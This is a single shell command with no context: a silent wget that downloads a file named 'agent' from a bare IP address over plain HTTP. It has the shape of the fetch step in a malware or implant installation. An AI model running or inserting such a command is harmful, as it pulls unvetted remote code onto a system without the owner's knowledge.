wget -q http://45.77.12.9/agent -O agent
